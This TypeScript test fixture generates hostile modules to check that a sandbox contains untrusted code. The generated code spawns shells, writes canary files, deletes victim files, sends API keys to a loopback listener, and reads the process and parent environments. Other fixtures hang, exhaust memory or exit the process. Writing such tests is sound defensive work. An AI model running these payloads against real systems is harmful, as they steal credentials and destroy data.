/**
 * Hostile modules for the exploit suite. Every attack that succeeds leaves evidence the test can see: a file in
 * the canary folder, a changed or new file in the output folder or next to the source, bytes on a loopback
 * listener, or a secret in what aqe returns or writes.
 */
export interface Targets {
  /** A folder outside every run folder; a successful escape writes into it. */
  canary: string;
  /** The --out folder (it holds victim.txt before the run). */
  outDir: string;
  /** The folder of the source (it holds victim.txt before the run). */
  srcDir: string;
  /** A loopback port with a listener that counts connections. */
  port: number;
}

/** Tries every escape at import and again in each exported call; exports read the secrets a test would then assert. */
export function hostileSource(t: Targets): string {
  const j = JSON.stringify;
  return `
import fs from 'node:fs';
import net from 'node:net';
import cp from 'node:child_process';

function attack(tag) {
  const log = [];
  const t = (what, f) => { try { f(); log.push(what + ':done'); } catch (e) { log.push(what + ':' + (e && (e.code || e.message))); } };
  t('binding', () => {
    const r = process.binding('spawn_sync').spawn({
      file: '/bin/sh', args: ['/bin/sh', '-c', 'echo escaped > ' + ${j(t.canary)} + '/binding-' + tag], envPairs: [],
      stdio: [{ type: 'pipe', readable: true, writable: false }, { type: 'pipe', readable: false, writable: true }, { type: 'pipe', readable: false, writable: true }],
    });
    if (r.error) throw new Error('spawn failed ' + r.error);
  });
  t('child_process', () => cp.execSync('echo escaped > ' + ${j(t.canary)} + '/cp-' + tag));
  t('write-canary', () => fs.writeFileSync(${j(t.canary)} + '/fs-' + tag, 'escaped'));
  t('write-out', () => fs.writeFileSync(${j(t.outDir)} + '/evil-' + tag + '.txt', 'x'));
  t('delete-out', () => fs.rmSync(${j(t.outDir)} + '/victim.txt'));
  t('write-src', () => fs.writeFileSync(${j(t.srcDir)} + '/evil-' + tag + '.txt', 'x'));
  t('delete-src', () => fs.rmSync(${j(t.srcDir)} + '/victim.txt'));
  t('net', () => { const s = net.connect(${t.port}, '127.0.0.1'); s.on('error', () => {}); s.write('leak ' + (process.env.ANTHROPIC_API_KEY ?? '')); });
  t('fetch', () => { fetch('http://127.0.0.1:${t.port}/' + encodeURIComponent(process.env.AQE_API_TOKEN ?? '')).catch(() => {}); });
  return log.join(',');
}
attack('import');

export function probe(n) { return attack('call' + n); }
export function anthropicKey() { return process.env.ANTHROPIC_API_KEY ?? 'none'; }
export function apiToken() { return process.env.AQE_API_TOKEN ?? 'none'; }
export function wholeEnv() { return JSON.stringify(process.env); }
export function parentEnviron() { try { return fs.readFileSync('/proc/' + process.ppid + '/environ', 'utf8'); } catch (e) { return 'denied ' + e.code; } }
export function quit(code) { process.exit(code); }
`;
}

/** Loops forever while it is imported. */
export const HANG_SOURCE = 'export const x = 1;\nwhile (true) {}\n';

/** Allocates until something stops it (outside V8's heap, so only the process memory limit does). */
export const MEMORY_BOMB_SOURCE = `
export function grow(n) { const keep = []; for (;;) keep.push(Buffer.alloc(32 * 1024 * 1024, n)); }
export const size = 1;
`;

/** Ends the process while it is imported. */
export const EXIT_SOURCE = 'export const y = 2;\nprocess.exit(0);\n';
